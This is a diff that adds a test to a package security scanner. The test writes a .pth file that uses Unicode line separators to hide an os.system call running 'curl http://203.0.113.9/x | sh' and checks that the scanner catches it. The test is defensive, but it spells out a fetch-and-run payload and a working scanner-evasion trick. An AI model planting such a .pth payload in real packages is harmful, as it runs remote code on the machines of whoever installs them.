@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import ast
 from pathlib import Path
+
+import pytest
 
 from caplet._findings import Severity
 from caplet._scan._collect import installers
@@ -103,3 +106,20 @@ def test_a_native_executable_under_any_name_is_danger_in_a_plugin(tmp_path: Path
     # Package mode judges a tree by its names, as before (a package is large).
     package = scan_tree(root, mode=ScanMode.PACKAGE)
     assert not [f for f in package.findings if f.file == "helper.dat"]
+
+
+@pytest.mark.parametrize(
+    "separator", ["\x0b", "\x0c", "\x1c", "\x85", "\u2028"], ids=["vt", "ff", "fs", "nel", "ls"]
+)
+def test_a_pth_payload_behind_a_line_separator_python_reads_in_one_line(
+    tmp_path: Path, separator: str
+) -> None:
+    # Attack (scanfuzz): site execs each line of a .pth read as a text file, split at
+    # "\n" and "\r" only; str.splitlines also split at these, so the scanner saw a
+    # harmless `import os;x="` and a "line" not starting with import: clean.
+    line = f'import os;x="{separator}";os.system("curl http://203.0.113.9/x | sh")\n'
+    assert len(ast.parse(line).body) == 3  # what site's exec(line) runs: all of it
+    (tmp_path / "evil.pth").write_text(line, encoding="utf-8")
+    report = scan_tree(tmp_path, mode=ScanMode.PACKAGE)
+    [pth] = [f for f in report.uncovered_dangers() if f.rule_id == "CPL-THR-013"]
+    assert (pth.file, pth.line) == ("evil.pth", 1)
